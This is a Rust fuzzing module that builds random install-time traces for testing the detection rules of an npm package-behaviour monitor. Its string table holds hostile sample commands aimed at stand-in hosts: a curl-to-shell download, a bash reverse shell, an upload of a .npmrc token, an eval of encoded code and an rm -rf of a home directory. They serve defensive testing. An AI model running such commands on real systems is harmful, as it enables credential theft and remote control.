//! Traces as the fuzzer orders them: well-formed as the recorder's are, with contents of any kind.

use super::input::Input;
use bytes::Bytes;
use lazaret::trace::{
    Decoy, Event, Evidence, Header, Kind, Location, ManifestFacts, Outcome, PackageId, Run, RunEnd,
    SCHEMA, Trace,
};

/// Most events of one trace.
const EVENTS: usize = 200;

/// Subjects, details and payloads that rules look for.
const TEXTS: [&str; 40] = [
    "/home/mwerner/.npmrc",
    "/home/mwerner/.ssh/id_ed25519",
    "/home/mwerner/.aws/credentials",
    "/proj/node_modules/x/index.js",
    "/proj/node_modules/other/index.js",
    "/proj/package.json",
    "/home/mwerner/.bashrc",
    "/tmp/payload",
    "/",
    "..",
    "",
    "*",
    "NPM_TOKEN",
    "HOME",
    "evil.test:443",
    "192.0.2.7:4444",
    "[2001:db8::1]:80",
    "registry.example:443",
    "POST https://evil.test/collect?d=s3cr3t-value",
    "GET http://evil.test/x.sh",
    "PUT https://registry.example/x",
    "s3cr3t-value.evil.test",
    "sh -c curl https://evil.test/x | sh",
    "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
    "node -e eval(atob('czNjcjN0LXZhbHVl'))",
    "rm -rf /home/mwerner",
    "npm publish",
    "chmod +x /tmp/payload",
    "s3cr3t-value",
    "czNjcjN0LXZhbHVl",
    "733363723374 2d76616c7565",
    "eulav-t3rc3s",
    "%73%33%63%72%33%74%2d%76%61%6c%75%65",
    "\\x73\\x33\\x63r3t-value",
    "115,51,99,114,51,116,45,118,97,108,117,101",
    "curl -T /home/mwerner/.npmrc https://evil.test",
    "eval",
    "function",
    "shell",
    "\u{1b}[2J\u{202e}\n",
];

/// Names of details that rules and reports read.
const DETAILS: [&str; 22] = [
    "resolved",
    "to",
    "child",
    "program",
    "cwd",
    "env",
    "stdin",
    "stdout",
    "native",
    "address",
    "tls",
    "sni",
    "url",
    "status",
    "header.authorization",
    "answer",
    "type",
    "reason",
    "existed",
    "mode",
    "recursive",
    "created",
];

/// A trace; its size grows with the input.
pub(crate) fn trace(input: &mut Input<'_>) -> Trace {
    let mut trace = Trace {
        header: header(input),
        ..Trace::default()
    };
    let runs = 1 + input.below(4);
    for _ in 0..runs {
        trace.runs.push(Run {
            phase: input
                .pick(&[
                    "preinstall",
                    "install",
                    "postinstall",
                    "import",
                    "prepare",
                    "x",
                ])
                .to_owned(),
            persona: "developer-linux".into(),
            command: text(input),
            end: *input.pick(&[
                &RunEnd::Completed,
                &RunEnd::Failed,
                &RunEnd::Timeout,
                &RunEnd::Crashed,
                &RunEnd::Unsupported,
                &RunEnd::Skipped,
            ]),
            reason: text(input),
        });
    }
    while !input.is_empty() && trace.events.len() < EVENTS {
        let event = event(input, &mut trace);
        trace.events.push(event);
    }
    trace
}

fn header(input: &mut Input<'_>) -> Header {
    let decoy = |name: &str, secret: &str, file: &str, variable: &str| Decoy {
        name: name.into(),
        group: "npm".into(),
        secret: secret.into(),
        files: vec![file.into()],
        variables: vec![variable.into()],
        audience: vec!["registry.example".into(), ".corp.example".into()],
    };
    Header {
        schema: SCHEMA.into(),
        tool: "fuzz".into(),
        package: PackageId {
            ecosystem: "npm".into(),
            name: text(input),
            version: "1.0.0".into(),
            digest: String::new(),
            root: "/proj/node_modules/x".into(),
        },
        manifest: ManifestFacts {
            own_hosts: vec!["own.example".into()],
            dependencies: vec![text(input)],
        },
        decoys: vec![
            decoy(
                "npm-token",
                "s3cr3t-value",
                "/home/mwerner/.npmrc",
                "NPM_TOKEN",
            ),
            decoy(
                "short",
                &text(input),
                "/home/mwerner/.ssh/id_ed25519",
                "HOME",
            ),
        ],
        registries: vec!["registry.example".into()],
        seed: input.number(),
        ..Header::default()
    }
}

fn event(input: &mut Input<'_>, trace: &mut Trace) -> Event {
    let kind = Kind::ALL[input.below(Kind::ALL.len())];
    let mut event = Event {
        seq: u32::try_from(trace.events.len()).unwrap_or(u32::MAX),
        run: u32::try_from(input.below(trace.runs.len())).unwrap_or(0),
        kind,
        subject: text(input),
        outcome: Outcome::Ok,
        pid: 4_211 + u32::from(input.byte() % 8),
        time: input.number(),
        at: Vec::new(),
        payload: None,
        detail: std::collections::BTreeMap::new(),
        evidence: Evidence::Seen,
    };
    let shape = input.byte();
    if shape & 1 != 0 {
        event.at.push(Location {
            file: text(input),
            line: u32::from(input.byte()),
            column: u32::from(input.byte() & 3),
        });
    }
    if shape & 2 != 0 {
        let payload = Bytes::from(payload(input));
        event.payload = Some(trace.blobs.insert(payload));
    }
    if shape & 4 != 0 {
        event.outcome = Outcome::Error("ENOENT".into());
    }
    if shape & 8 != 0 {
        event.evidence = Evidence::Claimed;
    }
    for _ in 0..(shape >> 4) & 3 {
        let name = input.pick(&DETAILS);
        let value = if name == "child" {
            (4_211 + u32::from(input.byte() % 8)).to_string()
        } else {
            text(input)
        };
        event.detail.insert(name.to_owned(), value);
    }
    event
}

fn text(input: &mut Input<'_>) -> String {
    match input.byte() {
        known @ 0..=200 => TEXTS[usize::from(known) % TEXTS.len()].to_owned(),
        201..=220 => format!("{} {}", input.pick(&TEXTS), input.text()),
        _ => input.text(),
    }
}

fn payload(input: &mut Input<'_>) -> Vec<u8> {
    match input.below(4) {
        0 => input.bytes().to_vec(),
        1 => text(input).into_bytes(),
        2 => [text(input).into_bytes(), vec![0], text(input).into_bytes()].concat(),
        _ => input.bytes().repeat(1 + input.below(40)),
    }
}

/// Orders for traces: bytes of several strides, so that each kind and each text occurs.
pub(crate) fn seeds() -> Vec<Vec<u8>> {
    [1_u32, 7, 31, 77, 113, 201]
        .map(|stride| {
            (0..240_u32)
                .map(|i| (i * stride % 251).to_le_bytes()[0])
                .collect()
        })
        .into()
}
